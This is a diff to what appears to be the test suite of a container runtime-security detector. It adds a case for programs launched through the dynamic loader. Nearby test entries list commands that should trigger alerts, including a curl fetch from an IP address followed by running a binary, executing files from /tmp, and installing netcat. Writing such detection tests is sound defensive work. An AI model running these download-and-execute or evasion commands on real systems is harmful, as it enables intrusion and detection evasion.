@@ -12,6 +12,7 @@ judge([
             options="-v /bin/busybox:/vol/busybox:ro"),
     Trigger("Downloaded program was run", fires=["/usr/bin/curl http://203.0.113.5/x; cp /trigger /opt/x && /opt/x"], silent=["cp /trigger /opt/x && /opt/x"]),
     Trigger("Program run from memory", fires=["/trigger memory", ["/trigger", "memory"]], silent=["/trigger run /trigger"]),
+    Trigger("Program run by the dynamic loader", fires=[["/lib64/ld-linux-x86-64.so.2", "/srv/page"]], silent=[["/lib64/ld-linux-x86-64.so.2", "--list", "/trigger"]]),
     Trigger("Program run from a directory for temporary files", fires=["cp /trigger /tmp/x && /tmp/x", "mkdir /var/tmp; cp /trigger /var/tmp/x && /var/tmp/x"],
             silent=["cp /trigger /opt/x && /opt/x"]),
     Trigger("Package manager in a container", fires=["apt-get install -y netcat", ["/usr/bin/apt-get", "update"]], silent=["dpkg -l", "apt-get --version"]),
